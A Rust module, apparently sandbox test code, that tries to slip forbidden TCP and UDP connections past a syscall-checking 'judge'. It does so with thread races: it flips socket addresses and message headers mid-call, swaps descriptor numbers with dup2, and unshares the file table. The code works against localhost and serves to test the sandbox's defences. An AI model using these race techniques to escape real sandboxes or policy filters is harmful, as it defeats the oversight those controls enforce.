//! A second thread that exchanges things behind the judge's back.

use libc::sockaddr_in;

use super::{
    Aim,
    raw::{LENGTH, address, at, call, connect_by, message, number, say, socket, tcp, udp},
};

/// Attempts something while another thread meddles, until it is achieved or was tried often enough. The other has
/// meddled anew before each attempt, so that none is lost because only one of the two was let run.
fn race(meddle: impl Fn() + Sync, mut attempt: impl FnMut() -> bool) -> bool {
    use std::{
        sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
        time::{Duration, Instant},
    };
    /// What is to be had is had in one of two to four attempts.
    const ENOUGH: usize = 60;
    const MOST: usize = 500;
    const TIME: Duration = Duration::from_millis(500);
    let (stop, turns) = (AtomicBool::new(false), AtomicU64::new(0));
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Relaxed) {
                meddle();
                turns.fetch_add(1, Relaxed);
            }
        });
        let (began, mut seen) = (Instant::now(), 0);
        let goes_on = |n: &usize| *n < ENOUGH || began.elapsed() < TIME;
        let done = (0..MOST).take_while(goes_on).any(|_| {
            while turns.load(Relaxed) == seen {
                std::thread::yield_now();
            }
            seen = turns.load(Relaxed);
            attempt()
        });
        stop.store(true, Relaxed);
        done
    })
}

/// The address of a permitted destination, which another thread exchanges all the while.
pub(super) fn flipped(aim: &Aim) -> bool {
    use std::sync::atomic::Ordering::Relaxed;
    let (good, bad) = (address(aim.open), address(aim.port));
    /// The bytes of an address: family, port and number, then zeroes.
    #[repr(C)]
    struct Shared(std::sync::atomic::AtomicU64, u64);
    let whole = Shared(std::sync::atomic::AtomicU64::new(0), 0);
    let shared = &whole.0;
    let halves = |a: &sockaddr_in| {
        let [low, high] = a.sin_port.to_ne_bytes();
        u64::from_ne_bytes([2, 0, low, high, 127, 0, 0, 1])
    };
    shared.store(halves(&good), Relaxed);
    let flip = || {
        shared.store(halves(&bad), Relaxed);
        shared.store(halves(&good), Relaxed);
    };
    race(flip, || {
        let Some(fd) = tcp() else { return true };
        if call(libc::SYS_connect, [fd, at(&whole), LENGTH, 0, 0, 0]) == 0 {
            say(fd);
        }
        call(libc::SYS_close, [fd, 0, 0, 0, 0, 0]);
        false
    });
    true
}

/// As [`flipped`], with the port in the name of a datagram's header.
pub(super) fn flipped_message(aim: &Aim) -> bool {
    use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
    let Some(fd) = udp() else { return false };
    let (good, bad) = (address(aim.open), address(aim.port));
    let part: [u64; 2] = [b"x".as_ptr() as u64, 1];
    let header = message(&good, &part).map(AtomicU64::new);
    let flip = || {
        for to in [&bad, &good] {
            header.iter().take(1).for_each(|name| name.store(at(to), Relaxed));
        }
    };
    race(flip, || {
        call(libc::SYS_sendmsg, [fd, header.as_ptr() as u64, 0, 0, 0, 0]);
        false
    });
    true
}

/// One number is a unix socket and a TCP socket by turns.
pub(super) fn swapped(aim: &Aim) -> bool {
    const NUMBER: u64 = 200;
    let (Some(unix), Some(fd)) = (socket(libc::AF_UNIX, libc::SOCK_STREAM, 0), tcp()) else { return false };
    let to = address(aim.port);
    let take = |fd: u64| call(libc::SYS_dup2, [fd, NUMBER, 0, 0, 0, 0]);
    take(unix);
    let swap = || {
        take(fd);
        take(unix);
    };
    let (mut peer, mut length) = ([0_u64; 2], LENGTH);
    let is_connected = race(swap, || {
        call(libc::SYS_connect, [NUMBER, at(&to), LENGTH, 0, 0, 0]);
        call(libc::SYS_getpeername, [fd, peer.as_mut_ptr() as u64, (&raw mut length) as u64, 0, 0, 0]) == 0
    });
    is_connected && say(fd)
}

/// A number that is a unix socket in the first thread is a TCP socket in another (unshare(2), `CLONE_FILES`).
pub(super) fn own_descriptors(aim: &Aim) -> bool {
    const NUMBER: u64 = 201;
    let Some(unix) = socket(libc::AF_UNIX, libc::SOCK_STREAM, 0) else { return false };
    call(libc::SYS_dup2, [unix, NUMBER, 0, 0, 0, 0]);
    let port = aim.port;
    let other = std::thread::spawn(move || {
        call(libc::SYS_unshare, [number(libc::CLONE_FILES), 0, 0, 0, 0, 0]);
        let Some(fd) = tcp() else { return false };
        call(libc::SYS_dup2, [fd, NUMBER, 0, 0, 0, 0]);
        connect_by(NUMBER, port)
    });
    other.join().unwrap_or(false)
}
